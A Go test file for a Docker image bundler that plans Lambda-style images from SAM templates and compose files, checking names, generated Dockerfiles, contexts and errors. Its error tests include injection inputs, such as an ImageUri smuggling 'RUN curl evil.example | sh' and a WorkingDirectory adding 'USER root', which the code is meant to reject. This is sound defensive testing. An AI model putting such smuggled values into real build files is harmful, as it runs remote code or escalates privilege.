package embedded

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/dindbundler/dindbundler/internal/compose"
	"github.com/dindbundler/dindbundler/internal/config"
	"github.com/dindbundler/dindbundler/internal/manifest"
	"github.com/dindbundler/dindbundler/producer/builders"
	"github.com/dindbundler/dindbundler/producer/sam"
	"github.com/matryer/is"
)

// baseReq is a request as FromConfig makes it for /proj/template.yaml with --env dev and
// nothing else set.
func baseReq() Request { return resolvedRequest("/proj/template.yaml", "dev", "/proj") }

// resolvedRequest is the request FromConfig makes for template (absolute) under projectRoot with
// --env env and nothing else configured: config's defaults, which TestFromConfig checks.
func resolvedRequest(template, env, projectRoot string) Request {
	return Request{
		Template: template, Env: env, Mode: ModeDocker, OutputRoot: filepath.Join(filepath.Dir(template), ".esb"),
		ProjectRoot: projectRoot, Brand: "esb", Project: "esb-" + strings.ToLower(env), ImagePrefix: "esb", ImageTag: "latest",
	}
}

func pyFunc() sam.Function {
	return sam.Function{
		LogicalID: "HelloFunction", Name: "Dev-Hello", PackageType: sam.PackageZip, Architecture: "x86_64",
		Runtime: "python3.12", Handler: "app.handler",
		CodeURI: "/proj/functions/hello", CodeKind: sam.CodeDir,
		Layers: []sam.Layer{
			{LogicalID: "CommonLayer", ContentURI: "/proj/layers/common", CompatibleRuntimes: []string{"python3.12"}},
			{LogicalID: "ZipLayer", ContentURI: "/proj/layers/extra.zip"},
		},
		Environment: map[string]string{
			"GREETING":    `Hello "you"`,
			"LOG_URL":     "${LOGS_URL}/insert",
			"WINDOWS_DIR": `C:\temp`,
		},
	}
}

func TestPlanZipFunction(t *testing.T) {
	is := is.New(t)
	p, err := Plan(&sam.Template{Dir: "/proj", Functions: []sam.Function{pyFunc()}}, nil, baseReq())
	is.NoErr(err)
	is.Equal(len(p.Images), 1)
	b := p.Images[0]
	is.Equal(b.Name, "esb-dev-hello:latest")
	is.Equal(b.Kind, manifest.KindFunction)
	is.Equal(b.Source, SourceSAM)
	is.Equal(b.For, "Dev-Hello")
	is.Equal(b.Labels, map[string]string{"com.esb.kind": "function", "com.esb.function": "Dev-Hello"})
	is.Equal(b.Platform, "linux/amd64")
	is.Equal(b.Dockerfile, "Dockerfile")
	is.Equal(b.DockerfileText, `# Generated for function Dev-Hello (python3.12): code in /var/task, layers in /opt, as Lambda lays them out.
FROM public.ecr.aws/lambda/python:3.12-x86_64
COPY layers/1/ /opt/
COPY layers/2/ /opt/
COPY task/ /var/task/
ENV GREETING="Hello \"you\""
ENV LOG_URL="\${LOGS_URL}/insert"
ENV WINDOWS_DIR="C:\\temp"
CMD ["app.handler"]
`)
	is.Equal(b.Context, []ContextEntry{
		{Kind: EntryDir, Source: "/proj/layers/common", Target: "layers/1", ExcludeNames: []string{".aws-sam", ".git"}},
		{Kind: EntryZip, Source: "/proj/layers/extra.zip", Target: "layers/2"},
		{Kind: EntryDir, Source: "/proj/functions/hello", Target: "task", ExcludeNames: builders.ExcludedFiles("python3.12", "")},
	})
	is.Equal(p.Bases, []BaseImage{{
		Name: "public.ecr.aws/lambda/python:3.12-x86_64", Source: SourceRuntime, Functions: []string{"Dev-Hello"},
		Variables: []string{"RUNTIME_BASE_PYTHON3_12"},
		Hint:      "set RUNTIME_BASE_PYTHON3_12 to a local image that runs the runtime (used by Dev-Hello)",
	}})
	is.Equal(len(p.External), 0)
	is.Equal(len(p.Warnings), 0)
}

func TestPlanFunctionVariants(t *testing.T) {
	jar := sam.Function{
		Name: "report", PackageType: sam.PackageZip, Runtime: "java21", Handler: "example.Report::handleRequest",
		CodeURI: "/proj/report.jar", CodeKind: sam.CodeJar, Architecture: "arm64",
	}
	inline := sam.Function{Name: "inline", Runtime: "nodejs20.x", Handler: "index.handler", CodeKind: sam.CodeInline, InlineCode: "exports.handler = async () => 1;\n"}
	tests := []struct {
		name     string
		fn       sam.Function
		req      func(*Request)
		wantName string
		check    func(is *is.I, b ImageBuild, p BuildPlan)
	}{
		{
			name: "jar is extracted, arm64 platform, no layers", fn: jar, wantName: "esb-report:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.Platform, "linux/arm64")
				is.Equal(b.Context, []ContextEntry{{Kind: EntryZip, Source: "/proj/report.jar", Target: "task"}})
				is.True(strings.Contains(b.DockerfileText, "FROM public.ecr.aws/lambda/java:21-arm64\nCOPY task/ /var/task/\nCMD [\"example.Report::handleRequest\"]\n"))
				is.True(!strings.Contains(b.DockerfileText, "COPY layers"))
			},
		},
		{
			name: "zip code", fn: sam.Function{Name: "z", Runtime: "provided.al2023", Handler: "bootstrap", CodeURI: "/proj/fn.zip", CodeKind: sam.CodeZip},
			wantName: "esb-z:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.Context, []ContextEntry{{Kind: EntryZip, Source: "/proj/fn.zip", Target: "task"}})
				is.Equal(p.Bases[0].Name, "public.ecr.aws/lambda/provided:al2023-x86_64")
			},
		},
		{
			name: "inline code becomes index.js", fn: inline, wantName: "esb-inline:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.Context, []ContextEntry{{Kind: EntryText, Target: "task/index.js", Text: inline.InlineCode}})
				is.Equal(p.Bases[0].Name, "public.ecr.aws/lambda/nodejs:20-x86_64")
			},
		},
		{
			name: "prefix, tag and brand", fn: jar,
			req: func(r *Request) {
				r.Brand, r.ImagePrefix, r.ImageTag = "acme", "shop", "v2" // the slug: config lower-cases CLI_CMD
			},
			wantName: "shop-report:v2",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.Labels, map[string]string{"com.acme.kind": "function", "com.acme.function": "report"})
			},
		},
		{
			name: "runtime base from RuntimeBases by runtime", fn: jar,
			req:      func(r *Request) { r.RuntimeBases = map[string]string{"java21": "local/java:21"} },
			wantName: "esb-report:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.True(strings.HasPrefix(b.DockerfileText, "# Generated for function report (java21): code in /var/task, layers in /opt, as Lambda lays them out.\nFROM local/java:21\n"))
				is.Equal(p.Bases[0].Name, "local/java:21")
				is.Equal(p.Bases[0].Source, SourceRuntime)
			},
		},
		{
			name: "runtime base from RuntimeBases by variable suffix", fn: jar,
			req:      func(r *Request) { r.RuntimeBases = map[string]string{"JAVA21": "suffix/java:21"} },
			wantName: "esb-report:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(p.Bases[0].Name, "suffix/java:21")
			},
		},
		{
			name: "the variable wins over RuntimeBases", fn: jar,
			req: func(r *Request) {
				r.RuntimeBases = map[string]string{"java21": "local/java:21"}
				r.Vars = map[string]string{"RUNTIME_BASE_JAVA21": "var/java:21"}
			},
			wantName: "esb-report:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.True(strings.Contains(b.DockerfileText, "\nFROM var/java:21\n"))
			},
		},
		{
			name: "unknown runtime with an override", fn: sam.Function{Name: "r", Runtime: "rust1.x", Handler: "h", CodeURI: "/proj/r", CodeKind: sam.CodeDir},
			req:      func(r *Request) { r.Vars = map[string]string{"RUNTIME_BASE_RUST1_X": "my/rust:1"} },
			wantName: "esb-r:latest",
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(p.Bases[0].Variables, []string{"RUNTIME_BASE_RUST1_X"})
			},
		},
		{
			name: "Image function from Metadata", wantName: "esb-thumbnail:latest",
			fn: sam.Function{
				Name: "thumbnail", PackageType: sam.PackageImage, Dockerfile: "docker/Dockerfile", DockerContext: "/proj/thumb",
				DockerTag: "v1", DockerBuildArgs: map[string]string{"BASE": "x"},
			},
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.Dockerfile, "docker/Dockerfile")
				is.Equal(b.DockerfileText, "")
				is.Equal(b.Context, []ContextEntry{{Kind: EntryDir, Source: "/proj/thumb", DockerIgnore: true}})
				is.Equal(b.BuildArgs, map[string]string{"BASE": "x"})
				is.Equal(b.Platform, "linux/amd64")
				is.Equal(len(p.Bases), 0)
			},
		},
		{
			name: "Image function with an absolute Dockerfile inside its context", wantName: "esb-abs:latest",
			fn: sam.Function{Name: "abs", PackageType: sam.PackageImage, Dockerfile: "/proj/thumb/Dockerfile", DockerContext: "/proj/thumb"},
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.Dockerfile, "Dockerfile")
			},
		},
		{
			name: "Image function from a prebuilt ImageUri", wantName: "esb-prebuilt:latest",
			fn: sam.Function{Name: "prebuilt", PackageType: sam.PackageImage, ImageURI: "registry.local/team/fn:3"},
			check: func(is *is.I, b ImageBuild, p BuildPlan) {
				is.Equal(b.DockerfileText, "# Generated for function prebuilt: its prebuilt ImageUri under the bundle's name.\nFROM registry.local/team/fn:3\n")
				is.Equal(len(b.Context), 0)
				is.Equal(p.Bases, []BaseImage{{
					Name: "registry.local/team/fn:3", Source: SourceSAM, Functions: []string{"prebuilt"},
					Hint: "build or load registry.local/team/fn:3 locally, or make its registry reachable (ImageUri of prebuilt)",
				}})
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			is := is.New(t)
			req := baseReq()
			if tt.req != nil {
				tt.req(&req)
			}
			p, err := Plan(&sam.Template{Functions: []sam.Function{tt.fn}}, nil, req)
			is.NoErr(err)
			is.Equal(len(p.Images), 1)
			is.Equal(p.Images[0].Name, tt.wantName)
			tt.check(is, p.Images[0], p)
		})
	}
}

func TestPlanErrors(t *testing.T) {
	zip := func(mod func(*sam.Function)) sam.Function {
		f := sam.Function{Name: "Fn", Runtime: "python3.12", Handler: "app.h", CodeURI: "/proj/fn", CodeKind: sam.CodeDir}
		mod(&f)
		return f
	}
	tests := []struct {
		name  string
		fns   []sam.Function
		c     *compose.File
		req   func(*Request)
		wants []string // substrings of the error
		never string   // not in the error (a value from .env)
	}{
		{
			name:  "unknown runtime",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Runtime = "cobol9" })},
			wants: []string{"function Fn", `runtime "cobol9"`, "set RUNTIME_BASE_COBOL9"},
		},
		{
			name:  "inline code in java",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Runtime, f.CodeKind, f.InlineCode = "java21", sam.CodeInline, "x" })},
			wants: []string{"function Fn", "InlineCode works only with Python and Node.js", "CodeUri"},
		},
		{
			name:  "no handler",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Handler = "" })},
			wants: []string{"function Fn", "needs a Handler"},
		},
		{
			name:  "line break in an environment value",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Environment = map[string]string{"CERT": "a\nb"} })},
			wants: []string{"function Fn", "Environment.Variables.CERT", "line break"},
		},
		{
			name:  "invalid environment name",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Environment = map[string]string{"BAD NAME": "x"} })},
			wants: []string{"Environment.Variables.BAD NAME", "not a valid environment variable name"},
		},
		{
			name: "two functions, one image name",
			fns: []sam.Function{
				zip(func(f *sam.Function) { f.Name = "Orders" }),
				zip(func(f *sam.Function) { f.Name = "orders" }),
			},
			wants: []string{"would both build image esb-orders:latest"},
		},
		{
			name:  "invalid image name",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Name = "x" })},
			req:   func(r *Request) { r.ImageTag = "bad tag" },
			wants: []string{"function x", `image name "esb-x:bad tag"`, "IMAGE_TAG"},
		},
		{
			name:  "Dockerfile outside the context",
			fns:   []sam.Function{{Name: "img", PackageType: sam.PackageImage, Dockerfile: "../Dockerfile", DockerContext: "/proj/img"}},
			wants: []string{"function img", "must lie inside Metadata.DockerContext"},
		},
		{
			name: "newline in ImageUri",
			fns: []sam.Function{{LogicalID: "Img", Name: "img", PackageType: sam.PackageImage,
				ImageURI: "repo/img:1\nRUN curl evil.example | sh"}},
			wants: []string{"resource Img: property ImageUri holds a control character (U+000A at byte 10)", "Dockerfile"},
		},
		{
			name:  "ImageUri that is no image reference",
			fns:   []sam.Function{{LogicalID: "Img", Name: "img", PackageType: sam.PackageImage, ImageURI: "Repo/Has Space:1"}},
			wants: []string{"resource Img: property ImageUri", "not an image reference"},
		},
		{
			name:  "carriage return in Runtime",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.LogicalID, f.Runtime = "Fn1", "python3.12\rFROM x" })},
			wants: []string{"resource Fn1: property Runtime holds a control character (U+000D"},
		},
		{
			name:  "escape in Handler",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.Handler = "app.h\x1b[2J" })},
			wants: []string{"resource Fn: property Handler holds a control character (U+001B"},
		},
		{
			name:  "newline in ImageConfig.WorkingDirectory",
			fns:   []sam.Function{{Name: "img", PackageType: sam.PackageImage, DockerContext: "/proj/img", ImageWorkingDirectory: "/w\nUSER root"}},
			wants: []string{"resource img: property ImageConfig.WorkingDirectory holds a control character"},
		},
		{
			name:  "runtime base from .env that is no image reference",
			fns:   []sam.Function{zip(func(f *sam.Function) { f.LogicalID = "Fn1" })},
			req:   func(r *Request) { r.Vars = map[string]string{"RUNTIME_BASE_PYTHON3_12": "py:3\nRUN secret-value"} },
			wants: []string{"resource Fn1: the base image of runtime python3.12 is not an image reference: fix RUNTIME_BASE_PYTHON3_12"},
			never: "secret-value",
		},
		{
			name:  "unsupported mode",
			req:   func(r *Request) { r.Mode = "containerd" },
			wants: []string{`mode "containerd" is not supported`, "--mode docker"},
		},
		{
			name:  "bad project name",
			req:   func(r *Request) { r.Project = "My Project" },
			wants: []string{"PROJECT_NAME"},
		},
		{
			name: "service and function build one image",
			fns:  []sam.Function{zip(func(f *sam.Function) { f.Name = "api" })},
			c: &compose.File{Services: []compose.Service{
				{Name: "api", Image: "esb-api:latest", Build: &compose.Build{Context: "/proj/api", Dockerfile: "Dockerfile"}},
			}},
			wants: []string{"function api and service api would both build image esb-api:latest"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			is := is.New(t)
			req := baseReq()
			if tt.req != nil {
				tt.req(&req)
			}
			_, err := Plan(&sam.Template{Functions: tt.fns}, tt.c, req)
			is.True(err != nil) // want an error
			if tt.never != "" {
				is.True(!strings.Contains(err.Error(), tt.never)) // the error prints no .env value
			}
			for _, w := range tt.wants {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
}

func TestPlanCompose(t *testing.T) {
	is := is.New(t)
	c := &compose.File{
		Dir: "/proj",
		Services: []compose.Service{
			{Name: "Gateway", Build: &compose.Build{Context: "/proj/gateway", Dockerfile: "Dockerfile"}},
			{Name: "api", Image: "myorg/api:2", Platform: "linux/arm64", Build: &compose.Build{
				Context: "/proj", Dockerfile: "docker/api.Dockerfile", Target: "prod",
				Args: map[string]string{"V": "2"}, Labels: map[string]string{"team": "core", "com.esb.kind": "overridden"},
			}},
			{Name: "worker", Image: "myorg/api:2"}, // runs the image api builds: not external
			{Name: "logs", Image: "127.0.0.1:5000/example/logs:1.0"},
			{Name: "logs2", Image: "127.0.0.1:5000/example/logs:1.0"},
			{Name: "cache", Image: "redis"},
		},
		Unset: []string{"TAG"},
	}
	p, err := Plan(nil, c, baseReq())
	is.NoErr(err)
	is.Equal(len(p.Images), 2)
	// Sorted by name: esb-dev-gateway:latest before myorg/api:2.
	gw, api := p.Images[0], p.Images[1]
	is.Equal(gw.Name, "esb-dev-gateway:latest") // <project>-<service>, as compose names it
	is.Equal(gw.Kind, manifest.KindService)
	is.Equal(gw.Source, SourceInternal)
	is.Equal(gw.For, "Gateway")
	is.Equal(gw.Labels, map[string]string{"com.esb.kind": "service", "com.esb.service": "Gateway"})
	is.Equal(gw.Context, []ContextEntry{{Kind: EntryDir, Source: "/proj/gateway", DockerIgnore: true}})
	is.Equal(gw.Dockerfile, "Dockerfile")
	is.Equal(gw.Platform, "")

	is.Equal(api.Name, "myorg/api:2")
	is.Equal(api.Labels, map[string]string{"team": "core", "com.esb.kind": "service", "com.esb.service": "api"})
	is.Equal(api.Target, "prod")
	is.Equal(api.BuildArgs, map[string]string{"V": "2"})
	is.Equal(api.Platform, "linux/arm64")
	is.Equal(api.Dockerfile, "docker/api.Dockerfile")
	// The project root holds the template's output root (/proj/.esb): left out of the context.
	is.Equal(api.Context, []ContextEntry{{Kind: EntryDir, Source: "/proj", DockerIgnore: true, Exclude: []string{"/proj/.esb"}}})

	is.Equal(p.External, []ExternalImage{
		{Name: "127.0.0.1:5000/example/logs:1.0", Services: []string{"logs", "logs2"}},
		{Name: "redis:latest", Services: []string{"cache"}},
	})
	is.Equal(p.Warnings, []string{"compose file: variable TAG is not set, using an empty string"})
}

func TestPlanProjectAndWarnings(t *testing.T) {
	is := is.New(t)
	req := baseReq()
	req.Env, req.Project = "Staging", "esb-staging" // what config resolves (TestFromConfig)
	req.OutputRoot = "/proj/functions/hello/out"
	fn := pyFunc()
	fn.Layers[0].CompatibleRuntimes = []string{"python3.11"}
	c := &compose.File{Services: []compose.Service{{Name: "web", Build: &compose.Build{Context: "/elsewhere", Dockerfile: "Dockerfile"}}}}
	p, err := Plan(&sam.Template{Functions: []sam.Function{fn}}, c, req)
	is.NoErr(err)
	is.Equal(p.Images[0].Name, "esb-dev-hello:latest")
	is.Equal(p.Images[1].Name, "esb-staging-web:latest") // <project>-<service>
	// An output root inside the code directory is left out of the function's context.
	is.Equal(p.Images[0].Context[2].Exclude, []string{"/proj/functions/hello/out"})
	is.Equal(len(p.Images[1].Context[0].Exclude), 0)
	is.Equal(p.Warnings, []string{"function Dev-Hello (python3.12) uses layer CommonLayer, whose CompatibleRuntimes (python3.11) do not list it; Lambda would refuse this"})
}

// The request's defaults are the configuration's: brand, project <brand>-<env> in lower case,
// image prefix and tag, output root <template dir>/.<brand>.
func TestFromConfig(t *testing.T) {
	for _, env := range []string{"dev", "prod", "Staging"} {
		t.Run(env, func(t *testing.T) {
			is := is.New(t)
			dir := t.TempDir()
			c, err := config.LoadFlags(nil, dir, config.Flags{Template: "stack/template.yaml", Env: env})
			is.NoErr(err)
			r, err := FromConfig(c, c.Templates[0])
			is.NoErr(err)
			is.Equal(r.Template, filepath.Join(dir, "stack", "template.yaml"))
			is.Equal(r.OutputRoot, filepath.Join(dir, "stack", ".esb"))
			is.Equal(r.ProjectRoot, dir)
			is.Equal(r.Mode, ModeDocker)
			is.Equal(r.Env, env)
			is.Equal(r.Brand, "esb")
			is.Equal(r.Project, "esb-"+strings.ToLower(env))
			is.Equal(r.ImagePrefix, "esb")
			is.Equal(r.ImageTag, "latest")
			is.Equal(r.ComposeFile, "") // none on disk
			is.Equal(r.Exclude, []string{filepath.Join(dir, "build")})
			is.Equal(r.ManifestPath(), filepath.Join(dir, "stack", ".esb", env, "bundle", "manifest.json"))
			is.NoErr(r.check())
		})
	}
}

func TestRequestCheck(t *testing.T) {
	is := is.New(t)
	is.NoErr(baseReq().check())
	for name, change := range map[string]func(*Request){
		"no template":        func(r *Request) { r.Template = "" },
		"no env":             func(r *Request) { r.Env = "" },
		"slash in env":       func(r *Request) { r.Env = "a/b" },
		"other mode":         func(r *Request) { r.Mode = "containerd" },
		"upper-case brand":   func(r *Request) { r.Brand = "Acme" },
		"bad project":        func(r *Request) { r.Project = "-x" },
		"relative template":  func(r *Request) { r.Template = "template.yaml" },
		"relative output":    func(r *Request) { r.OutputRoot = ".esb" },
		"no image tag":       func(r *Request) { r.ImageTag = "" },
		"no image prefix":    func(r *Request) { r.ImagePrefix = "" },
		"unresolved request": func(r *Request) { *r = Request{Template: "t", Env: "e"} },
	} {
		r := baseReq()
		change(&r)
		err := r.check()
		if err == nil {
			t.Errorf("%s: want an error", name)
		}
	}
}

func TestRuntimeVariable(t *testing.T) {
	is := is.New(t)
	for runtime, want := range map[string]string{
		"python3.12":      "RUNTIME_BASE_PYTHON3_12",
		"nodejs20.x":      "RUNTIME_BASE_NODEJS20_X",
		"provided.al2023": "RUNTIME_BASE_PROVIDED_AL2023",
		"java8.al2":       "RUNTIME_BASE_JAVA8_AL2",
		"java21":          "RUNTIME_BASE_JAVA21",
	} {
		is.Equal(RuntimeVariable(runtime), want)
	}
}

// A compose context that is the project root must not carry the bundler's own outputs (the
// images archive in the build directory, the producer's output root).
func TestPlanExcludesOutputsFromContexts(t *testing.T) {
	is := is.New(t)
	req := baseReq()
	req.OutputRoot = "/proj/.esb"
	req.Exclude = []string{"/proj/build", "/elsewhere/build"}
	c := &compose.File{Services: []compose.Service{{Name: "web", Build: &compose.Build{Context: "/proj", Dockerfile: "Dockerfile"}}}}
	p, err := Plan(&sam.Template{Dir: "/proj"}, c, req)
	is.NoErr(err)
	is.Equal(len(p.Images), 1)
	is.Equal(p.Images[0].Context[0].Exclude, []string{"/proj/.esb", "/proj/build"}) // only paths inside the context
}

// Every code and layer directory of a Zip function carries the names sam build leaves out for
// its runtime and build method; a docker build context (an Image function, a compose build)
// follows its .dockerignore only, as docker build does.
func TestPlanExcludesWhatSamBuildLeavesOut(t *testing.T) {
	is := is.New(t)
	req := baseReq()
	tpl := &sam.Template{Dir: "/proj", Functions: []sam.Function{
		{Name: "py", LogicalID: "Py", Runtime: "python3.12", Handler: "app.handler", CodeURI: "/proj", CodeKind: sam.CodeDir,
			Layers: []sam.Layer{{LogicalID: "Deps", ContentURI: "/proj/layer"}}},
		{Name: "js", LogicalID: "Js", Runtime: "nodejs20.x", Handler: "index.handler", CodeURI: "/proj/js", CodeKind: sam.CodeDir, BuildMethod: "esbuild"},
	}}
	p, err := Plan(tpl, nil, req)
	is.NoErr(err)
	names := map[string][]string{}
	for _, img := range p.Images {
		for _, e := range img.Context {
			if e.Kind == EntryDir {
				names[img.For+":"+e.Target] = e.ExcludeNames
			}
		}
	}
	is.Equal(names["py:task"], builders.ExcludedFiles("python3.12", ""))
	is.Equal(names["py:layers/1"], []string{".aws-sam", ".git"}) // not built by sam build: packaged as it is
	is.Equal(names["js:task"], builders.ExcludedFiles("nodejs20.x", "esbuild"))
	is.True(slices.Contains(names["py:task"], ".git"))
}
